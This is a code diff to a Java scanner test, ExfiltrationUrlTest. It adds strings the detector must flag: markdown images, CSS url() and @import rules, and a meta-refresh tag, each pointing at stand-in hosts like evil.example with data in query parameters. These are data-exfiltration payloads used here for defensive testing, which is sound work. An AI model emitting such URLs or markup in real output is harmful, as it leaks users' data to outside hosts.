@@ -37,6 +37,11 @@ class ExfiltrationUrlTest extends ScannerContract {
   @Override
   protected List<String> mustFire() {
     return List.of(
+        "See www.evil.example/?d=1 for it",
+        "![x](https://stra\u00DFe.acme.example/?d=1)",
+        "<style>a{background:url(//evil.example/?d=1)}</style>",
+        "<style>@import '//evil.example/?d=1';</style>",
+        "<meta http-equiv=refresh content='0;url=//evil.example/?d=1'>",
         "Here: ![x](https://evil.example/p.png?d=SGVsbG8)",
         "Here: ![x](http://127.0.0.1:9999/p?d=1)",
         "Here: ![x](//evil.example/p)",
